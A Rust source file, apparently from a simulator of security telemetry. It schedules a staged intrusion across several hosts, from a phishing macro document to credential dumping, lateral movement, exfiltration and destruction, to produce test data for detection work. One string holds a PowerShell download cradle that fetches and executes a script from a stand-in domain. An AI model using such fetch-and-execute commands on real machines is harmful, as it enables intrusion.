//! Who, when and what it is called: fixed before anything happens, so that every host can play its
//! part without knowing the others' state.

use std::sync::Arc;

use crate::clock::{HOUR, MINUTE, SECOND, whole_millis};
use crate::config::FleetConfig;
use crate::intrusion::stages::{self, Stage};
use crate::oddity::{self, Oddity};
use crate::random::{Rng, stable_hash};
use crate::roster::{Profile, Roster};

/// Places in the roster of the hosts concerned.
pub(crate) const PATIENT: usize = 0;
pub(crate) const FILES: usize = 1;
pub(crate) const LATERAL: usize = 2;
pub(crate) const WEB: usize = 4;

/// What happens on one host in one go.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Step {
    Phish,
    Persist,
    Beacon,
    Discover,
    BlindAntivirus,
    StopSensor,
    SensorBack,
    DumpCredentials,
    CopyOver,
    InstallService,
    RemoteWmi,
    RemoteDesktop,
    Collect,
    Exfiltrate,
    Destroy,
    WebShell,
}

/// Where and when after the beginning. Beacons come in between.
const SCRIPT: [(Step, usize, i64); 15] = [
    (Step::Phish, PATIENT, 0),
    (Step::Persist, PATIENT, 41 * SECOND),
    (Step::Discover, PATIENT, 190 * SECOND),
    (Step::BlindAntivirus, PATIENT, 9 * MINUTE),
    (Step::StopSensor, PATIENT, 12 * MINUTE),
    (Step::SensorBack, PATIENT, 12 * MINUTE + 258 * SECOND),
    (Step::DumpCredentials, PATIENT, 18 * MINUTE + 30 * SECOND),
    (Step::CopyOver, PATIENT, 26 * MINUTE),
    (Step::InstallService, LATERAL, 26 * MINUTE + 12 * SECOND),
    (Step::WebShell, WEB, 33 * MINUTE),
    (Step::RemoteWmi, FILES, 40 * MINUTE),
    (Step::RemoteDesktop, FILES, 47 * MINUTE),
    (Step::Collect, FILES, 55 * MINUTE),
    (Step::Exfiltrate, FILES, 68 * MINUTE),
    (Step::Destroy, FILES, 94 * MINUTE),
];
/// The last beacon; everything is over by half an hour before the end.
const LAST_BEACON: i64 = 105 * MINUTE;

/// The intrusion and the oddities, planned.
pub(crate) struct Plan {
    steps: Vec<(usize, i64, Step)>,
    oddities: Vec<(usize, i64, Oddity)>,
    presence: (i64, i64),
    gap: (i64, i64),
    stages: Vec<Stage>,
    pub hosts: Hosts,
    pub names: Names,
}

/// The hosts concerned.
pub(crate) struct Hosts {
    pub patient: Arc<Profile>,
    pub files: Arc<Profile>,
    pub lateral: Arc<Profile>,
    pub web: Arc<Profile>,
}

/// What things are called.
#[derive(Debug)]
pub(crate) struct Names {
    /// The macro document.
    pub invoice: String,
    /// Command and control.
    pub domain: &'static str,
    pub address: &'static str,
    /// Where the data goes.
    pub drop_address: &'static str,
    /// The random service name on the second host, and its file in `C:\Windows`.
    pub service: String,
    /// The archive's password.
    pub password: String,
    /// What the encoded command decodes to.
    pub cradle: String,
}

impl Plan {
    pub(crate) fn new(config: &FleetConfig, roster: &Roster, start: i64, end: i64) -> Self {
        let mut rng = Rng::new(stable_hash(config.seed, "intrusion"));
        let begin = whole_millis(end - 148 * MINUTE + rng.between(0, 9 * MINUTE));
        let domain = "cdn.parcel-notice.example";
        let names = Names {
            invoice: format!("Invoice_{}.docm", rng.between(10_000, 99_999)),
            domain,
            address: "203.0.113.214",
            drop_address: "198.51.100.226",
            service: rng.letters(8),
            password: format!("{}!{}", rng.letters(6), rng.below(900) + 100),
            cradle: format!(
                "$c = New-Object Net.WebClient; $c.Headers.Add('User-Agent', 'parcel/2'); IEX $c.DownloadString('https://{domain}/n/t.txt')"
            ),
        };
        let [patient, files, lateral, _, web, _] = roster.fixed.clone();
        let hosts = Hosts { patient, files, lateral, web };
        let mut steps: Vec<_> =
            SCRIPT.iter().map(|(step, host, after)| (*host, begin + after, *step)).collect();
        // Nobody types to the second; the sensor's return alone is fixed, by the gap.
        for (_, at, _) in steps.iter_mut().filter(|(_, _, step)| *step != Step::SensorBack) {
            *at = whole_millis(*at + rng.between(0, 2 * SECOND));
        }
        let mut beacon = begin + 2 * MINUTE;
        while beacon < begin + LAST_BEACON {
            steps.push((PATIENT, whole_millis(beacon), Step::Beacon));
            beacon += 2 * MINUTE + rng.between(-7 * SECOND, 7 * SECOND);
        }
        let stop = 12 * MINUTE + 6 * SECOND;
        Self {
            stages: stages::expected(&hosts, &names, &roster.backup_account.name, &steps),
            steps,
            oddities: oddity::schedule(config, roster, start, end),
            presence: (begin - 100 * MINUTE, end + 2 * HOUR),
            gap: (begin + stop, begin + 12 * MINUTE + 258 * SECOND),
            hosts,
            names,
        }
    }

    /// What happens on a device, and when.
    pub(crate) fn steps(&self, device: usize) -> impl Iterator<Item = (i64, Step)> + '_ {
        self.steps
            .iter()
            .filter(move |(host, ..)| *host == device)
            .map(|(_, at, step)| (*at, *step))
    }

    /// The oddities of a device.
    pub(crate) fn oddities(&self, device: usize) -> impl Iterator<Item = (i64, Oddity)> + '_ {
        self.oddities
            .iter()
            .filter(move |(host, ..)| *host == device)
            .map(|(_, at, oddity)| (*at, *oddity))
    }

    /// When somebody has to be at a device's screen, or a server has to be up.
    pub(crate) fn presence(&self, device: usize) -> Option<(i64, i64)> {
        matches!(device, PATIENT | FILES | LATERAL).then_some(self.presence)
    }

    /// When a device's sensor is stopped.
    pub(crate) fn gap_of(&self, device: usize) -> Option<(i64, i64)> {
        (device == PATIENT).then_some(self.gap)
    }

    pub(crate) fn stages(&self) -> &[Stage] {
        &self.stages
    }
}
